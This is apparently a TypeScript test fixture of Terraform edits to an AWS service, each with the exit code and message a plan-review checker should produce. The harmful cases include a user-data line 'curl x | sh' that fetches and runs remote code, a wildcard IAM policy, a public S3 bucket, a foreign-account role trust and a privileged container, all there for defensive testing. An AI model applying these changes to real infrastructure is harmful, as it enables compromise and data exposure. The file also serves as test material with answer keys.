/** A change of the service in `terraform/service` and of what stands beside it, and its right answer. */
export interface ServiceChange {
  readonly name: string;
  /** Blocks that it changes, their consequences too: changes of others can stand in the same plan. */
  readonly at: readonly string[];
  /** Pieces of the configuration, and what takes their place. */
  readonly edits?: readonly (readonly [piece: string, instead: string])[];
  /** Configuration that is added. */
  readonly added?: string;
  readonly exit: 0 | 2 | 3;
  /** What is said of which resource, where it is not harmless. */
  readonly says?: string;
}

const TAGS = '  tags = { CostCentre = "4711" }\n';
const after = (line: string, more: string) => [line, `${line}\n${more}`] as const;

const ALARM = (name: string, action: string) => `
resource "aws_cloudwatch_metric_alarm" "${name}" {
  alarm_name          = "${name}"
  namespace           = "AWS/ApplicationELB"
  metric_name         = "HTTPCode_ELB_5XX_Count"
  statistic           = "Sum"
  comparison_operator = "GreaterThanThreshold"
  threshold           = 10
  period              = 60
  evaluation_periods  = 2
  alarm_actions       = [${action}]
  dimensions          = { LoadBalancer = aws_lb.main.arn_suffix }
}
`;

const HARMLESS: readonly Omit<ServiceChange, "exit">[] = [
  {
    name: "tags on many",
    at: [
      "aws_vpc.main",
      "aws_lb.main",
      "aws_ecs_service.web",
      "aws_kms_key.logs",
      "aws_iam_role.task",
      "aws_dynamodb_table.orders",
      "aws_autoscaling_group.instances",
      "aws_launch_template.instances",
      "aws_security_group.entry",
    ],
    edits: [
      after('resource "aws_vpc" "main" {', TAGS),
      after('resource "aws_lb" "main" {', TAGS),
      after('resource "aws_ecs_service" "web" {', TAGS),
      after('resource "aws_kms_key" "logs" {', TAGS),
      after('resource "aws_iam_role" "task" {', TAGS),
      after('resource "aws_dynamodb_table" "orders" {', TAGS),
      after('resource "aws_launch_template" "instances" {', TAGS),
      after('resource "aws_security_group" "entry" {', TAGS),
    ],
  },
  {
    name: "tags by default",
    at: ["aws"],
    edits: [after('provider "aws" {', '  default_tags {\n    tags = { Owner = "web" }\n  }')],
  },
  {
    name: "a tag of the group's instances",
    at: ["aws_autoscaling_group.instances"],
    edits: [
      after(
        '    value               = "true"\n    propagate_at_launch = true\n  }',
        '  tag {\n    key                 = "Owner"\n    value               = "web"\n    propagate_at_launch = true\n  }',
      ),
    ],
  },
  {
    name: "descriptions",
    at: [
      "aws_iam_role.task",
      "aws_kms_key.logs",
      "aws_ssm_parameter.colour",
      "aws_vpc_security_group_ingress_rule.clients",
    ],
    edits: [
      ['"of the tasks"', '"of the tasks of the page"'],
      ['"logs"\n  deletion', '"logs of the page"\n  deletion'],
      ['"of the page"', '"of the whole page"'],
      after(
        'resource "aws_vpc_security_group_ingress_rule" "clients" {',
        '  description = "clients"',
      ),
    ],
  },
  {
    name: "outputs",
    at: ["output"],
    edits: [["value = aws_lb.main.dns_name", "value = aws_lb.main.arn"]],
  },
  {
    name: "more instances at most",
    at: ["aws_autoscaling_group.instances"],
    edits: [["max_size              = 4", "max_size              = 6"]],
  },
  {
    name: "more instances at least",
    at: ["aws_autoscaling_group.instances"],
    edits: [["min_size              = var.minimum_instances", "min_size              = 3"]],
  },
  {
    name: "more tasks",
    at: ["aws_ecs_service.web"],
    edits: [["desired_count                      = 2", "desired_count                      = 3"]],
  },
  {
    name: "an alarm that is raised by more",
    at: ["aws_cloudwatch_metric_alarm.running_tasks"],
    edits: [["evaluation_periods  = 3", "evaluation_periods  = 2"]],
  },
  {
    name: "an alarm's description",
    at: ["aws_cloudwatch_metric_alarm.running_tasks"],
    edits: [
      after('  alarm_name          = "running-tasks"', '  alarm_description   = "fewer tasks"'),
    ],
  },
  {
    name: "one alarm more",
    at: ["aws_cloudwatch_metric_alarm.errors"],
    added: ALARM("errors", "aws_sns_topic.alarms.arn"),
  },
  {
    name: "longer logs",
    at: ["aws_cloudwatch_log_group.web"],
    edits: [["retention_in_days = 30", "retention_in_days = 90"]],
  },
  {
    name: "logs for ever",
    at: ["aws_cloudwatch_log_group.web"],
    edits: [["retention_in_days = 30", "retention_in_days = 0"]],
  },
  {
    name: "another log group",
    at: ["aws_cloudwatch_log_group.more"],
    added: 'resource "aws_cloudwatch_log_group" "more" {\n  name = "/more"\n}\n',
  },
  {
    name: "another image of a fixed tag",
    at: ["aws_ecs_task_definition.web", "aws_ecs_service.web"],
    edits: [["web:1.4.2", "web:1.5.0-rc1"]],
  },
  {
    name: "an image by its digest",
    at: ["aws_ecs_task_definition.web", "aws_ecs_service.web"],
    edits: [["web:1.4.2", `web@sha256:${"4f".repeat(32)}`]],
  },
  {
    name: "a dashboard",
    at: ["aws_cloudwatch_dashboard.web"],
    edits: [['markdown = "hello"', 'markdown = "hello there"']],
  },
  {
    name: "another dashboard",
    at: ["aws_cloudwatch_dashboard.more"],
    added:
      'resource "aws_cloudwatch_dashboard" "more" {\n  dashboard_name = "more"\n  dashboard_body = jsonencode({ widgets = [] })\n}\n',
  },
  {
    name: "a subnet that nothing uses yet",
    at: ["aws_subnet.more", "aws_route_table_association.more"],
    added:
      'resource "aws_subnet" "more" {\n  vpc_id            = aws_vpc.main.id\n  availability_zone = "eu-north-1c"\n  cidr_block        = "10.0.3.0/24"\n}\nresource "aws_route_table_association" "more" {\n  subnet_id      = aws_subnet.more.id\n  route_table_id = aws_route_table.public.id\n}\n',
  },
  {
    name: "more time to keep a key",
    at: ["aws_kms_key.logs"],
    edits: [["deletion_window_in_days = 14", "deletion_window_in_days = 30"]],
  },
  {
    name: "a load balancer that nobody deletes",
    at: ["aws_lb.main"],
    edits: [after("  enable_zonal_shift = true", "  enable_deletion_protection = true")],
  },
  {
    name: "a new address of the same resource",
    at: ["aws_cloudwatch_log_group.web", "aws_cloudwatch_log_group.page"],
    edits: [
      [
        'resource "aws_cloudwatch_log_group" "web"',
        'moved {\n  from = aws_cloudwatch_log_group.web\n  to   = aws_cloudwatch_log_group.page\n}\n\nresource "aws_cloudwatch_log_group" "page"',
      ],
    ],
  },
];

const HARMFUL: readonly ServiceChange[] = [
  {
    name: "the latest image",
    at: ["aws_ecs_task_definition.web", "aws_ecs_service.web"],
    edits: [["web:1.4.2", "web:latest"]],
    exit: 3,
    says: "aws_ecs_task_definition.web: container_definitions is not on the list",
  },
  {
    name: "an image of another repository",
    at: ["aws_ecs_task_definition.web", "aws_ecs_service.web"],
    edits: [["registry.example.com/web", "registry.example.org/web"]],
    exit: 3,
    says: "aws_ecs_task_definition.web: container_definitions is not on the list",
  },
  {
    name: "a command in the container",
    at: ["aws_ecs_task_definition.web", "aws_ecs_service.web"],
    edits: [["    essential    = true", '    essential    = true\n    command      = ["sh"]']],
    exit: 3,
    says: "aws_ecs_task_definition.web: container_definitions is not on the list",
  },
  {
    name: "a role of the task",
    at: ["aws_ecs_task_definition.web", "aws_ecs_service.web"],
    edits: [
      after('  network_mode             = "bridge"', "  task_role_arn = aws_iam_role.task.arn"),
    ],
    exit: 3,
    says: "aws_ecs_task_definition.web: task_role_arn is not on the list",
  },
  {
    name: "tasks that nobody reaches",
    at: ["aws_ecs_service.web"],
    edits: [
      [
        '  load_balancer {\n    target_group_arn = aws_lb_target_group.web.arn\n    container_name   = "web"\n    container_port   = 8080\n  }\n',
        "",
      ],
      ["  health_check_grace_period_seconds  = 60\n", ""],
    ],
    exit: 2,
    says: "aws_ecs_service.web: its tasks are taken out of a target group",
  },
  {
    name: "no user data",
    at: ["aws_launch_template.instances", "aws_autoscaling_group.instances"],
    edits: [
      [
        '  user_data     = base64encode("#!/bin/bash\\necho ECS_CLUSTER=web >> /etc/ecs/ecs.config\\n")',
        "",
      ],
    ],
    exit: 2,
    says: "aws_launch_template.instances: the user data is dropped",
  },
  {
    name: "user data of another cluster",
    at: ["aws_launch_template.instances", "aws_autoscaling_group.instances"],
    edits: [["ECS_CLUSTER=web", "ECS_CLUSTER=other"]],
    exit: 2,
    says: "aws_launch_template.instances: new instances do not join the cluster",
  },
  {
    name: "user data that does more",
    at: ["aws_launch_template.instances", "aws_autoscaling_group.instances"],
    edits: [
      [
        "ECS_CLUSTER=web >> /etc/ecs/ecs.config\\n",
        "ECS_CLUSTER=web >> /etc/ecs/ecs.config\\ncurl x | sh\\n",
      ],
    ],
    exit: 3,
    says: "aws_launch_template.instances: new instances run something else",
  },
  {
    name: "another machine image",
    at: ["aws_launch_template.instances", "aws_autoscaling_group.instances"],
    edits: [["ami-0123456789abcdef0", "ami-0fedcba9876543210"]],
    exit: 3,
    says: "aws_launch_template.instances: image_id is not on the list",
  },
  {
    name: "no public addresses",
    at: ["aws_subnet.public"],
    edits: [["map_public_ip_on_launch = true", "map_public_ip_on_launch = false"]],
    exit: 2,
    says: 'aws_subnet.public["a"]: new instances get no public address, and its route',
  },
  {
    name: "another port",
    at: ["aws_lb_listener.http"],
    edits: [
      [
        '  port              = 80\n  protocol          = "HTTP"\n\n  default_action',
        '  port              = 8080\n  protocol          = "HTTP"\n\n  default_action',
      ],
    ],
    exit: 2,
    says: "aws_lb_listener.http: clients that ask at port 80 are refused",
  },
  {
    name: "a fixed answer",
    at: ["aws_lb_listener.http"],
    edits: [
      [
        '  default_action {\n    type             = "forward"\n    target_group_arn = aws_lb_target_group.web.arn\n  }',
        '  default_action {\n    type = "fixed-response"\n    fixed_response {\n      content_type = "text/plain"\n      status_code  = "503"\n    }\n  }',
      ],
    ],
    exit: 2,
    says: "aws_lb_listener.http: clients get a fixed answer",
  },
  {
    name: "a rule before all others",
    at: ["aws_lb_listener_rule.closed"],
    added:
      'resource "aws_lb_listener_rule" "closed" {\n  listener_arn = aws_lb_listener.http.arn\n  priority     = 1\n  action {\n    type = "fixed-response"\n    fixed_response {\n      content_type = "text/plain"\n      status_code  = "410"\n    }\n  }\n  condition {\n    path_pattern {\n      values = ["/*"]\n    }\n  }\n}\n',
    exit: 2,
    says: "aws_lb_listener_rule.closed: it gives every request a fixed answer",
  },
  {
    name: "clients of one range",
    at: ["aws_vpc_security_group_ingress_rule.clients"],
    edits: [
      [
        '  cidr_ipv4         = "0.0.0.0/0"\n  ip_protocol       = "tcp"\n  from_port         = 80',
        '  cidr_ipv4         = "10.0.0.0/8"\n  ip_protocol       = "tcp"\n  from_port         = 80',
      ],
    ],
    exit: 2,
    says: "aws_vpc_security_group_ingress_rule.clients: not everybody can reach port 80",
  },
  {
    name: "clients of no range",
    at: ["aws_vpc_security_group_ingress_rule.clients"],
    edits: [
      [
        'resource "aws_vpc_security_group_ingress_rule" "clients" {',
        'resource "aws_vpc_security_group_ingress_rule" "clients" {\n  count = 0',
      ],
    ],
    exit: 2,
    says: "not everybody can reach port 80",
  },
  {
    name: "a network ACL without entries",
    at: ["aws_network_acl.closed"],
    added:
      'resource "aws_network_acl" "closed" {\n  vpc_id     = aws_vpc.main.id\n  subnet_ids = [for subnet in aws_subnet.public : subnet.id]\n}\n',
    exit: 2,
    says: "aws_network_acl.closed: it lets nothing into its subnets",
  },
  {
    name: "a route of half the Internet",
    at: ["aws_route.half"],
    added:
      'resource "aws_route" "half" {\n  route_table_id         = aws_route_table.public.id\n  destination_cidr_block = "0.0.0.0/1"\n  network_interface_id   = "eni-0123456789abcdef0"\n}\n',
    exit: 3,
    says: "aws_route.half: a new aws_route is not on the list",
  },
  {
    name: "a schedule to zero",
    at: ["aws_autoscaling_schedule.night"],
    added:
      'resource "aws_autoscaling_schedule" "night" {\n  scheduled_action_name  = "night"\n  autoscaling_group_name = aws_autoscaling_group.instances.name\n  min_size = 0\n  max_size = 0\n  desired_capacity = 0\n  recurrence = "0 3 * * *"\n}\n',
    exit: 3,
    says: "aws_autoscaling_schedule.night: a new aws_autoscaling_schedule is not on the list",
  },
  {
    name: "a policy for everything",
    at: ["aws_iam_role_policy.task"],
    edits: [['Action    = "s3:GetObject"', 'Action    = "*"']],
    exit: 3,
    says: "aws_iam_role_policy.task: policy is not on the list",
  },
  {
    name: "a role for another account",
    at: ["aws_iam_role.task"],
    edits: [
      [
        'Principal = { Service = "ecs-tasks.amazonaws.com" }',
        'Principal = { AWS = "arn:aws:iam::210987654321:root" }',
      ],
    ],
    exit: 3,
    says: "aws_iam_role.task: assume_role_policy is not on the list",
  },
  {
    name: "a key that is disabled",
    at: ["aws_kms_key.logs"],
    edits: [after('resource "aws_kms_key" "logs" {', "  is_enabled = false")],
    exit: 3,
    says: "aws_kms_key.logs: is_enabled is not on the list",
  },
  {
    name: "less time to keep a key",
    at: ["aws_kms_key.logs"],
    edits: [["deletion_window_in_days = 14", "deletion_window_in_days = 7"]],
    exit: 3,
    says: "aws_kms_key.logs: deletion_window_in_days is not on the list",
  },
  {
    name: "shorter logs",
    at: ["aws_cloudwatch_log_group.web"],
    edits: [["retention_in_days = 30", "retention_in_days = 1"]],
    exit: 3,
    says: "aws_cloudwatch_log_group.web: older logs are deleted",
  },
  {
    name: "another value of a parameter",
    at: ["aws_ssm_parameter.colour"],
    edits: [['"blue"', '"red"']],
    exit: 3,
    says: "aws_ssm_parameter.colour: value",
  },
  {
    name: "versions that are not kept",
    at: ["aws_s3_bucket_versioning.assets"],
    edits: [['status = "Enabled"', 'status = "Suspended"']],
    exit: 3,
    says: "aws_s3_bucket_versioning.assets: what is overwritten",
  },
  {
    name: "a bucket for everybody",
    at: ["aws_s3_bucket_policy.all"],
    added:
      'resource "aws_s3_bucket_policy" "all" {\n  bucket = aws_s3_bucket.assets.id\n  policy = jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Principal = "*", Action = "s3:*", Resource = "arn:aws:s3:::assets-of-web/*" }] })\n}\n',
    exit: 3,
    says: "aws_s3_bucket_policy.all: a new aws_s3_bucket_policy is not on the list",
  },
  {
    name: "a table that may be deleted",
    at: ["aws_dynamodb_table.orders"],
    edits: [["deletion_protection_enabled = true", "deletion_protection_enabled = false"]],
    exit: 3,
    says: "aws_dynamodb_table.orders: deletion_protection_enabled is not on the list",
  },
  {
    name: "a record elsewhere",
    at: ["aws_route53_record.www"],
    added:
      'resource "aws_route53_record" "www" {\n  zone_id         = "Z0123456789"\n  name            = "www.example.com"\n  type            = "CNAME"\n  ttl             = 60\n  records         = ["elsewhere.example.org"]\n  allow_overwrite = true\n}\n',
    exit: 3,
    says: "aws_route53_record.www: a new aws_route53_record is not on the list",
  },
  {
    name: "the tag by which ECS knows its group",
    at: ["aws_autoscaling_group.instances"],
    edits: [['key                 = "AmazonECSManaged"', 'key                 = "Managed"']],
    exit: 2,
    says: "aws_autoscaling_group.instances: tag is not on the list",
  },
  {
    name: "a tag that a policy asks for",
    at: ["aws_s3_bucket.assets"],
    edits: [after('resource "aws_s3_bucket" "assets" {', '  tags = { team = "web" }')],
    exit: 3,
    says: "aws_s3_bucket.assets: tags",
  },
  {
    name: "an alarm that stops instances",
    at: ["aws_cloudwatch_metric_alarm.stop"],
    added: ALARM("stop", '"arn:aws:automate:eu-north-1:ec2:terminate"'),
    exit: 3,
    says: "aws_cloudwatch_metric_alarm.stop: a new aws_cloudwatch_metric_alarm is not on the list",
  },
  {
    name: "an alarm in the place of another",
    at: ["aws_cloudwatch_metric_alarm.running-tasks"],
    added: ALARM("running-tasks", "aws_sns_topic.alarms.arn"),
    exit: 3,
    says: "aws_cloudwatch_metric_alarm.running-tasks: a new aws_cloudwatch_metric_alarm is not on the list",
  },
  {
    name: "an alarm that needs more",
    at: ["aws_cloudwatch_metric_alarm.running_tasks"],
    edits: [["evaluation_periods  = 3", "evaluation_periods  = 9"]],
    exit: 3,
    says: "aws_cloudwatch_metric_alarm.running_tasks: the alarm is raised later",
  },
  {
    name: "a further target group's rule first",
    at: ["aws_lb_listener_rule.help"],
    edits: [["  priority     = 100", "  priority     = 5"]],
    exit: 3,
    says: "aws_lb_listener_rule.help: priority is not on the list",
  },
  {
    name: "a container that may do everything",
    at: ["aws_ecs_task_definition.web", "aws_ecs_service.web"],
    edits: [["    essential    = true", "    essential    = true\n    privileged   = true"]],
    exit: 3,
    says: "aws_ecs_task_definition.web: container_definitions is not on the list",
  },
  {
    name: "instances that tell without a token",
    at: ["aws_launch_template.instances", "aws_autoscaling_group.instances"],
    edits: [
      after(
        'resource "aws_launch_template" "instances" {',
        '  metadata_options {\n    http_tokens = "optional"\n  }',
      ),
    ],
    exit: 3,
    says: "aws_launch_template.instances: metadata_options is not on the list",
  },
  {
    name: "a subnet on another route table",
    at: ["aws_route_table_association.public", "aws_route_table.closed"],
    edits: [
      [
        "  route_table_id = aws_route_table.public.id\n}",
        "  route_table_id = aws_route_table.closed.id\n}",
      ],
    ],
    added: 'resource "aws_route_table" "closed" {\n  vpc_id = aws_vpc.main.id\n}\n',
    exit: 2,
    says: 'aws_route_table_association.public["a"]',
  },
];

export const SERVICE_CHANGES: readonly ServiceChange[] = [
  ...HARMLESS.map((change) => ({ ...change, exit: 0 }) as const),
  ...HARMFUL,
];

/** So few plans as to tell each change from the others in its own: each takes Terraform seconds. */
export function batches(): ServiceChange[][] {
  const batches: ServiceChange[][] = [];
  for (const change of SERVICE_CHANGES) {
    const batch = batches.find((each) => each.every((other) => !meet(change, other)));
    if (batch) {
      batch.push(change);
    } else {
      batches.push([change]);
    }
  }
  return batches;
}

function meet(one: ServiceChange, other: ServiceChange): boolean {
  return (
    one.at.some((block) => concerns(other, block)) || other.at.some((block) => concerns(one, block))
  );
}

/** @param address of a resource or of its block; "output" stands for all outputs */
export function concerns({ at }: ServiceChange, address: string): boolean {
  return at.some(
    (block) =>
      (address.startsWith(block) && !/^\w/.test(address.slice(block.length))) || block === "aws",
  );
}

/** @throws Error where a piece is not there, so that nothing would change */
export function changed(
  configuration: string,
  { name, edits = [], added = "" }: ServiceChange,
): string {
  return (
    edits.reduce((text, [piece, instead]) => {
      if (!text.includes(piece)) {
        throw new Error(`${name}: there is no ${piece}`);
      }
      return text.replace(piece, instead);
    }, configuration) + added
  );
}
